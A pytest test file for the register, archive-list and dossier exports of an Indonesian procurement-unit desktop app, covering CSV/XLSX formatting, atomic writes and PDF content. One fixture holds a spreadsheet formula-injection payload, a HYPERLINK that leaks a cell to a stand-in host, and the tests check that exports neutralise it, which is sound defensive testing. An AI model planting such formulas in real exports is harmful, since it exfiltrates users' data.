"""Exports: the register opens in Excel as it should, PDFs list what was asked, nothing is half-written."""
import codecs
import csv
import datetime as dt
import errno
import io
import os

import openpyxl
import pytest
from pypdf import PdfReader

from tests.factories import advance, application_input
from ukpbj_desktop import demo, services
from ukpbj_desktop.documents import exports, paperwork
from ukpbj_desktop.documents.export_files import Cancelled, atomic_write
from ukpbj_desktop.errors import StorageError, ValidationError
from ukpbj_desktop.queries import archive as aq, register as rq
from ukpbj_desktop.store.models import Applicant, Application, ArchiveRecord

ACCENTED = "Théresia Ngamelübun, S.E."


@pytest.fixture
def register(store):
    """Demo applications of December 2025 and January 2026, and one accented name registered now (2026)."""
    demo.generate(150, today=dt.date(2026, 1, 10))
    services.submit(store, application_input(nip="19700101 199503 2 001", name=ACCENTED))
    return store


def leftovers(folder):
    """Temporary files an export left behind."""
    return [p.name for p in folder.iterdir() if p.name.endswith(".part")]


def agenda_numbers(year):
    return {a.agenda_number for a in Application.select().where(Application.year == year)}


def test_register_csv_has_bom_header_and_one_line_per_filtered_application(register, tmp_path):
    out = tmp_path / "register.csv"
    written = exports.export_register(rq.RegisterFilter(year=2026), out)
    raw = out.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)  # Excel reads UTF-8 only with it
    header, *lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert header == list(exports.REGISTER_HEADERS)
    numbers = [line[0] for line in lines]
    assert sorted(numbers) == sorted(agenda_numbers(2026)) and written == len(lines)
    accented = next(line for line in lines if line[2] == ACCENTED)
    assert accented[3] == "19700101 199503 2 001"  # grouped: Excel keeps it as text, not 1.97E+17
    assert accented[6] == "Dalam proses" and accented[5] == "2. Pemeriksaan kelengkapan"


def test_register_xlsx_reads_back_with_a_bold_frozen_header_and_real_dates(register, tmp_path):
    out = tmp_path / "register.xlsx"
    written = exports.export_register(rq.RegisterFilter(year=2025), out)
    sheet = openpyxl.load_workbook(out).active
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == list(exports.REGISTER_HEADERS) and all(c.font.b for c in sheet[1])
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert {r[0] for r in rows} == agenda_numbers(2025) and written == len(rows) > 0
    first = Application.get(Application.agenda_number == rows[0][0])
    assert isinstance(rows[0][1], dt.datetime) and rows[0][1] == first.received_at


FORMULA = '=HYPERLINK("http://contoh.test/?leak="&C2,"Klik")'


@pytest.fixture
def hostile(store):
    """A file whose stored texts an export must not pass on as they are: a formula as the work unit and a
    name with control characters (data written before validation refused them)."""
    app = services.submit(store, application_input(nip="19700101 199503 2 001"))
    Applicant.update(work_unit=FORMULA, name="Hasan\x07 Tuasikal\x1b").where(
        Applicant.id == app.applicant_id).execute()
    return app


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_stored_formula_or_control_character_reaches_the_export_as_plain_text(hostile, tmp_path, suffix):
    out = tmp_path / f"register{suffix}"
    assert exports.export_register(rq.RegisterFilter(), out) == 1
    if suffix == ".csv":
        [_header, line] = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
        name, work_unit = line[2], line[4]
    else:
        cells = list(openpyxl.load_workbook(out).active.iter_rows(min_row=2))[0]
        assert cells[4].data_type == "s"  # text, never a formula Excel would run
        name, work_unit = cells[2].value, cells[4].value
    assert work_unit == "'" + FORMULA  # OWASP: a leading quote makes a spreadsheet show it as text
    assert name == "Hasan Tuasikal"


def test_register_export_refuses_a_format_it_cannot_write(register, tmp_path):
    with pytest.raises(ValidationError):
        exports.export_register(rq.RegisterFilter(), tmp_path / "register.pdf")
    assert list(tmp_path.glob("register*")) == []


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cancelling_the_register_export_keeps_the_old_file_and_leaves_no_temp(register, tmp_path, monkeypatch,
                                                                              suffix):
    monkeypatch.setattr(exports, "BATCH", 20)  # several pages, so there is a "later" to cancel at
    out = tmp_path / f"register{suffix}"
    out.write_bytes(b"last week's export")
    reported = []
    with pytest.raises(Cancelled):
        exports.export_register(rq.RegisterFilter(), out, lambda done, total: reported.append(done),
                                cancelled=lambda: len(reported) >= 3)
    assert out.read_bytes() == b"last week's export" and leftovers(tmp_path) == []
    assert reported == [0, 20, 40]


def test_atomic_write_replaces_the_file_only_when_complete(tmp_path):
    out = tmp_path / "list.pdf"
    out.write_bytes(b"old")
    with atomic_write(out) as handle:
        handle.write(b"new")
        assert out.read_bytes() == b"old"  # nothing visible until the end
    assert out.read_bytes() == b"new" and leftovers(tmp_path) == []


@pytest.mark.parametrize("stop", [ValueError("renderer failed"), Cancelled()])
def test_atomic_write_keeps_the_old_file_when_the_export_stops(tmp_path, stop):
    out = tmp_path / "list.pdf"
    out.write_bytes(b"old")
    with pytest.raises(type(stop)), atomic_write(out) as handle:
        handle.write(b"half a document")
        raise stop
    assert out.read_bytes() == b"old" and leftovers(tmp_path) == []


@pytest.mark.parametrize("where", ["write", "fsync"])
def test_a_full_disk_is_a_storage_error_that_names_the_folder(tmp_path, monkeypatch, where):
    def full(*args):
        raise OSError(errno.ENOSPC, "No space left on device")

    out = tmp_path / "register.xlsx"
    out.write_bytes(b"old")
    with pytest.raises(StorageError) as caught, atomic_write(out) as handle:
        if where == "fsync":
            monkeypatch.setattr(os, "fsync", full)
            handle.write(b"all of it")
        else:
            full()
    message = caught.value.message()
    assert "Disk penuh" in message and str(tmp_path) in message and "register.xlsx" in message
    assert out.read_bytes() == b"old" and leftovers(tmp_path) == []


def test_a_target_open_in_another_program_is_a_storage_error_saying_so(tmp_path, monkeypatch):
    def in_use(*args):  # Windows refuses to replace a file Excel has open
        raise PermissionError(errno.EACCES, "Permission denied")

    out = tmp_path / "register.xlsx"
    out.write_bytes(b"open in Excel")
    monkeypatch.setattr(os, "replace", in_use)
    with pytest.raises(StorageError, match="sedang dibuka program lain"), atomic_write(out) as handle:
        handle.write(b"new")
    assert out.read_bytes() == b"open in Excel" and leftovers(tmp_path) == []


def test_a_missing_folder_is_a_storage_error(tmp_path):
    with pytest.raises(StorageError, match="tidak ada"), atomic_write(tmp_path / "gone" / "list.pdf"):
        pass


def test_archive_list_progress_runs_from_reading_through_rendering_to_the_end(register, tmp_path):
    out = tmp_path / "arsip.pdf"
    reported = []
    listed = exports.export_archive_list(aq.ArchiveFilter(), out, lambda done, total: reported.append((done, total)))
    assert listed == ArchiveRecord.select().count() > 50
    assert len(PdfReader(out).pages) > 1
    assert {total for _, total in reported} == {exports.PROGRESS_SCALE}
    done = [d for d, _ in reported]
    assert done == sorted(done) and done[-1] == exports.PROGRESS_SCALE
    assert any(0 < d < exports.PROGRESS_SCALE for d in done)


def test_keterangan_says_medium_decision_and_scans(store):
    from ukpbj_desktop.store.models import Scan

    app = services.submit(store, application_input())
    app = services.reject_at_completeness_check(store, app, ["Bukan PPK."])
    services.archive(store, services.reject(store, app),
                     services.ArchiveInput("000.3.5", "Berkas akun PPK", "2026"))
    record = ArchiveRecord.get()
    for n in range(2):
        Scan.create(archive=record, sha256=f"{n}" * 64, filename=f"{n}.pdf", size=1)
    [line] = paperwork.archive_list_data(aq.iter_rows(aq.ArchiveFilter()), aq.ArchiveFilter()).lines
    assert line.note == "Kertas; ditolak; 2 pindaian"


def test_the_list_is_signed_by_the_operator_and_known_by_the_head_from_the_settings(store):
    from ukpbj_desktop.store.settings import set_setting

    data = paperwork.archive_list_data([], aq.ArchiveFilter(), made_by=store)
    assert (data.made_by.name, data.made_by.nip) == (store.full_name, store.nip)
    assert (data.known_by.name, data.known_by.nip, data.known_by.title) == ("", "", "Kepala UKPBJ")
    set_setting("head_name", "Abdul Rahman Kelian, S.T.")
    set_setting("head_nip", "197601112003121005")
    known_by = paperwork.archive_list_data([], aq.ArchiveFilter()).known_by
    assert (known_by.name, known_by.nip) == ("Abdul Rahman Kelian, S.T.", "197601112003121005")
    assert paperwork.archive_list_data([], aq.ArchiveFilter()).made_by.name == ""  # headless: a line to sign on


def test_cancelling_while_pages_are_drawn_writes_nothing(register, tmp_path):
    out = tmp_path / "arsip.pdf"
    reported = []
    with pytest.raises(Cancelled):
        exports.export_archive_list(aq.ArchiveFilter(), out, lambda done, total: reported.append(done),
                                    cancelled=lambda: any(d > exports._READ_SHARE for d in reported))
    assert not out.exists() and leftovers(tmp_path) == []


def pdf_text(path):
    return "\n".join(page.extract_text() for page in PdfReader(path).pages)


def test_dossier_of_an_open_application_says_it_is_not_archived(register, tmp_path):
    app = Application.select().join(Applicant).where(Applicant.name == ACCENTED).get()
    assert paperwork.dossier_data(app.id).archive == ()
    out = tmp_path / "dosir.pdf"
    exports.export_dossier(app.id, out)
    text = pdf_text(out)
    assert app.agenda_number in text and "Berkas belum diarsipkan." in text


def test_dossier_of_an_archived_application_shows_account_and_where_the_file_is(store, tmp_path):
    app = services.submit(store, application_input())
    app = advance(store, app, "archive")
    services.archive(store, app, services.ArchiveInput("027", "Berkas akun PPK Dinas PUPR", "2026", box_no="12",
                                                       room="Ruang Arsip", rack="Rak 2", shelf="3"))
    data = paperwork.dossier_data(app.id)
    assert dict(data.archive)["Lokasi simpan"] == "Ruang Arsip, Rak 2, Baris 3"
    assert data.decision == "Diterima" and data.user_id == app.applicant.nip
    assert [s.step for s in data.steps] == [1, 2, 5, 6, 8, 9]  # as the paper SOP numbers them
    out = tmp_path / "dosir.pdf"
    exports.export_dossier(app.id, out)
    text = pdf_text(out)
    record = ArchiveRecord.get(ArchiveRecord.application == app.id)
    assert record.archive_number in text and "Boks 12" in text and app.applicant.nip in text


def test_dossier_of_an_unknown_application_is_a_user_error(store, tmp_path):
    with pytest.raises(ValidationError, match="tidak ditemukan"):
        exports.export_dossier(424242, tmp_path / "dosir.pdf")
    assert not (tmp_path / "dosir.pdf").exists()


def test_the_dossier_is_signed_by_whoever_printed_it_and_known_by_the_head_of_the_unit(store, tmp_path):
    from ukpbj_desktop.store.settings import set_setting

    store.full_name, store.nip = "Siti Rumalutur", "199001012015032002"
    store.save()
    set_setting("head_name", "Ir. Abdul Gani Rumakat")
    set_setting("head_nip", "197203111998031004")
    app = advance(store, services.submit(store, application_input()), "create_account")
    out = tmp_path / "dosir.pdf"
    exports.export_dossier(app.id, out, made_by=store)
    text = pdf_text(out)
    assert "Mengetahui," in text and "Ir. Abdul Gani Rumakat" in text and "NIP. 19720311 199803 1 004" in text
    assert "Yang mencetak," in text and text.count("NIP. 19900101 201503 2 002") >= 3  # each step, and the print
